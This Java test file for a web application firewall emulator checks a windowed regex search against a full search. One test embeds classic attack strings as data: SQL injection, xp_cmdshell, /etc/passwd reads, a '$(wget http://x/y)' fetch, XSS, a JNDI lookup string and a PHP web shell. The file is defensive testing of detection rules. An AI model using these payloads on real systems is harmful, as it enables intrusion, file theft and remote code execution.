package dev.powerpages.emulator.waf.engine;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * An {@code @rx} on a long value first searches the window before its automaton's first match end
 * ({@link LazyDfaPrefilter#matchEnd}, {@link Operators#NEAR_MATCH_WINDOW}): its answer must be java.util.regex's search
 * of the whole value, for patterns with anchors, word boundaries and flags that read the characters around the window.
 * The window is made small here so that most values reach it.
 */
class NearMatchSearchTest {

    private static final int WINDOW = 8;

    @Test
    void randomPatternsAnswerAsTheSearchOfTheWholeValue() {
        Random random = new Random(20261207L);
        int compared = 0;
        int farMatches = 0;
        for (int n = 0; n < 2000; n++) {
            String pcre = LazyDfaPrefilterTest.randomPattern(random, 3);
            LazyDfaPrefilterTest.BothEngines engines = LazyDfaPrefilterTest.BothEngines.compile(pcre);
            if (engines == null) {
                continue;
            }
            Pattern java = engines.java();
            com.google.re2j.Pattern re2 = engines.re2();
            Operator windowed = Operators.regex(pcre, true, WINDOW);
            // The reference: java.util.regex from the start (on its leash, then RE2/J: unleashed, nested random
            // quantifiers backtrack for minutes on these values), as without the window.
            Operator whole = Operators.regex(pcre, true, Integer.MAX_VALUE);
            LazyDfaPrefilter automaton = LazyDfaPrefilter.of(re2);
            for (int k = 0; k < 40; k++) {
                // Several random pieces: matches, near misses and anchors far from both ends of the value.
                StringBuilder value = new StringBuilder();
                int pieces = 1 + random.nextInt(5);
                for (int p = 0; p < pieces; p++) {
                    value.append(LazyDfaPrefilterTest.randomValue(random));
                }
                String text = value.toString();
                boolean expected = whole.matches(text);
                if (text.length() <= 24) {
                    // Short enough for java.util.regex alone, without a leash.
                    assertThat(java.matcher(text).find()).as("%s", pcre).isEqualTo(expected);
                }
                assertThat(windowed.matches(text))
                        .as("%s on %s", pcre, LazyDfaPrefilterTest.escape(text))
                        .isEqualTo(expected);
                compared++;
                if (expected && automaton.matchEnd(text) > WINDOW) {
                    farMatches++;
                }
            }
        }
        assertThat(compared).isGreaterThan(40_000);
        // The windowed search is reached often, not just the search from the start.
        assertThat(farMatches).isGreaterThan(2_000);
    }

    /** Every {@code @rx} of the rule files, on attack samples set in hostile text, windowed and searched from the start. */
    @Test
    void everyRuleFilePatternAnswersAsWithoutTheWindow() throws IOException {
        HostileInputs inputs = new HostileInputs(5112634740286L);
        List<String> attacks = List.of(
                "1' union select @@version--",
                "exec master..xp_cmdshell 'dir'",
                ";/bin/ca\\t /et?/passwd",
                "$(wget http://x/y)",
                "<svg onload=alert(1)>",
                "${jndi:ldap://x/a}",
                "; cat /etc/passwd",
                "{{7*7}}",
                "../../etc/passwd",
                "<?php system($_GET['c']); ?>");
        List<String> values = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            String before = inputs.next(20 + i * 10);
            String after = inputs.next(40);
            values.add(before + attacks.get(i % attacks.size()) + after);
            values.add(inputs.next(600));
        }
        int patterns = 0;
        int matched = 0;
        for (String pcre : LazyDfaPrefilterTest.ruleFilePatterns()) {
            if (LinearRegex.compile(pcre) == null) {
                continue;
            }
            patterns++;
            Operator windowed = Operators.regex(pcre, true, 64);
            Operator whole = Operators.regex(pcre, true, Integer.MAX_VALUE);
            for (String value : values) {
                // The reference: java.util.regex from the start on its leash, then RE2/J (unleashed, some of these
                // patterns backtrack for minutes on hostile text).
                boolean expected = whole.matches(value);
                assertThat(windowed.matches(value)).as("%s", pcre).isEqualTo(expected);
                if (expected) {
                    matched++;
                }
            }
        }
        assertThat(patterns).isGreaterThan(100);
        assertThat(matched).isGreaterThan(patterns);
    }
}
